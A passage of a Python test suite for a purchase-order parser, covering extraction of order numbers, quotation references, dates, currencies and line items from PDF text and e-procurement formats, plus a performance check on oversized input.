        "Office Supplies Online Ltd.   Purchase Order   Request 20240077\n"
        "Unit 4, Riverside Park        Purchase order no./Date\n"
        "Leeds LS11 5QE                4500012345 / 03/28/2024\n"
    )
    assert orders.find_pdf_references(text).po_number == "4500012345"


def test_pdf_po_number_labels_win_over_nearby_numbers():
    text = "Purchase Order\nYour vendor number with us 100234\nPO number: 4400001234\n"
    assert orders.find_pdf_references(text).po_number == "4400001234"


def test_pdf_custom_po_pattern():
    text = (
        "Nordwind eProcurement\nOur order:  NW-2024-0815 of 12.03.2024\nPurchase Order 4500012345"
    )
    found = orders.find_pdf_references(text, po_pattern=r"Our order: (?P<po>NW-\d{4}-\d{4})")
    assert found.po_number == "NW-2024-0815"
    assert found.order_date == datetime(2024, 3, 12)
    assert orders.find_pdf_references(text, po_pattern=r"Auftrag (\d+)").po_number == ""
    assert orders.find_pdf_references(text, po_pattern=r"Order (45\d{8})").po_number == (
        "4500012345"
    )
    compiled = orders.compile_po_pattern(r"order:\s*(\S+)")
    assert orders.find_pdf_references(text, po_pattern=compiled).po_number == "NW-2024-0815"
    with pytest.raises(ValueError, match="not valid"):
        orders.compile_po_pattern(r"Order (\d+")


def test_pdf_quotation_references_only():
    text = (
        "Purchase Order 4500012349\nYour quotation S00046 dated 01.03.2024 and S00047\n"
        "Please deliver as quoted.\n"
    )
    found = orders.find_pdf_references(text)
    assert (found.po_number, found.quotation_refs, found.line_refs) == (
        "4500012349",
        ["S00046", "S00047"],
        [],
    )
    assert found.lines == []
    with pytest.raises(MalformedDocument, match="No order line"):
        found.to_order_request()
    with pytest.raises(MalformedDocument, match="No purchase order number"):
        orders.find_pdf_references("Quotation S00046").to_order_request()


def test_pdf_line_reference_forms_and_custom_quotation_pattern():
    text = "S00042/57, S00042 / 58, Angebot S00042 Pos. 59, s00042 item 60, S00042/12.03.2024"
    found = orders.find_pdf_references(text)
    assert found.line_refs == ["S00042/57", "S00042/58", "S00042/59", "s00042/60"]
    assert found.quotation_refs == ["S00042", "s00042"]
    # A reference never spans lines: the next line's "Item 00010" is not quotation line 10.
    assert orders.find_pdf_references("Your quotation S00042\nItem 00010 Chair").line_refs == []
    custom = orders.find_pdf_references("Angebot SO-0042 Zeile 7", quotation_pattern=r"SO-\d{4}")
    assert (custom.quotation_refs, custom.line_refs) == (["SO-0042"], ["SO-0042/7"])
    with pytest.raises(ValueError, match="quotation pattern"):
        orders.find_pdf_references("x", quotation_pattern="S(")


@pytest.mark.parametrize(
    ("value", "order", "expected"),
    [
        ("28.03.2024", None, datetime(2024, 3, 28)),
        ("2024-03-28", None, datetime(2024, 3, 28)),
        ("03/28/2024", None, datetime(2024, 3, 28)),
        ("28/03/2024", None, datetime(2024, 3, 28)),
        ("13/12/2024", None, datetime(2024, 12, 13)),
        ("12/13/2024", None, datetime(2024, 12, 13)),
        ("04/02/2024", None, None),
        ("04/02/2024", "mdy", datetime(2024, 4, 2)),
        ("04/02/2024", "dmy", datetime(2024, 2, 4)),
        ("05/05/24", None, datetime(2024, 5, 5)),
        ("31.02.2024", None, None),
        ("KW 13/2024", None, None),
    ],
)
def test_parse_text_date(value, order, expected):
    assert orders.parse_text_date(value, order) == expected


def test_slash_date_order():
    assert orders.slash_date_order("03/28/2024 and 04/02/2024") == "mdy"
    assert orders.slash_date_order("28/03/2024 and 04/02/2024") == "dmy"
    assert orders.slash_date_order("28/03/2024 and 03/28/2024") is None
    assert orders.slash_date_order("04/02/2024") is None


def test_pdf_line_continuation_stops_at_totals_and_page_breaks():
    text = (
        "Purchase Order 4500012351\n"
        "00010 FURN-0006 10 PC 125.00 1,250.00\n"
        "Total net value 1,250.00\n"
        "00020 FURN-0007 1 PC 99.00 99.00\n"
        "Page 1 of 2\n"
        "Delivery date: 12.04.2024\n"
        "00030 FURN-0008 2 PC 10.00 20.00\n"
        "Armrests, adjustable\n"
    )
    first, second, third = orders.find_pdf_references(text).lines
    assert (first.description, second.description) == ("", "")
    assert second.requested_delivery_date is None
    assert third.description == "Armrests, adjustable"
    assert [line.supplier_part_id for line in (first, second, third)] == [
        "FURN-0006",
        "FURN-0007",
        "FURN-0008",
    ]


def test_pdf_currency_and_decimal_forms():
    text = (
        "Bestellung 4500012350\n"
        "00010 A-1 Widget 1.234,5 ST 1.000,00 / 10 ST 123.450,00\n"
        "Summe EUR 123.450,00\n"
    )
    found = orders.find_pdf_references(text)
    (widget,) = found.lines
    assert widget.quantity == Decimal("1234.5")
    assert widget.unit_price == Money(Decimal("100"), "EUR")
    assert found.total == Money(Decimal("123450.00"), "EUR")
    assert orders.find_pdf_references("Total \u00a3 12.00").currency == "GBP"
    assert orders.find_pdf_references("Currency: CHF\nTotal 5.00 EUR").currency == "CHF"


def test_pdf_text_normalization():
    assert orders.normalize_pdf_text("Bestell\u00adnummer\r\n\ufb01le   a\tb") == (
        "Bestellnummer\nfile a b"
    )
    assert orders.normalize_pdf_text("B e s t e l l u n g   4 5 0 0") == "Bestellung 4500"


def test_pdf_hostile_text_is_fast():
    start = time.monotonic()
    found = orders.find_pdf_references(
        ("00010 " + "1 " * 140 + "x\n") * 2000 + "Purchase order " + "9" * 100_000
    )
    assert found.lines == []
    assert found.po_number == ""
    orders.find_pdf_references("1.1." * 500_000)
    assert time.monotonic() - start < 5


def test_errors_share_the_base_class():
    for error in (MalformedDocument, UnsupportedRequest):
        assert issubclass(error, PunchoutProtocolError)


def test_parsers_give_the_matcher_what_it_reads():
    """Every format gives an OrderRequest the matcher can use: order id, lines with
    quantities, Decimal amounts, our references."""
    for data in (PEPPOL_ORDER, OPENTRANS_ORDER, IDOC_ORDERS05):
        order = orders.parse_order(data)
        assert isinstance(order, OrderRequest) and order.order_id
        for item in order.items:
            assert isinstance(item.quantity, Decimal)
            assert item.unit_price is None or isinstance(item.unit_price.amount, Decimal)
            assert item.supplier_part_auxiliary_id.startswith("S000")
            assert isinstance(item.line_number, int)


def test_aware_and_naive_dates_as_given():
    aware = PEPPOL_ORDER.replace(b"<cbc:IssueTime>09:41:00+01:00", b"<cbc:IssueTime>09:41:00Z")
    assert orders.parse_order(aware).order_date.tzinfo == timezone.utc
    naive = PEPPOL_ORDER.replace(b"<cbc:IssueTime>09:41:00+01:00</cbc:IssueTime>", b"")
    assert orders.parse_order(naive).order_date == datetime(2024, 3, 12)
    opentrans = OPENTRANS_ORDER.replace(b"08:14:27+01:00", b"08:14:27+02:00")
    assert orders.parse_order(opentrans).order_date.tzinfo == PLUS_2
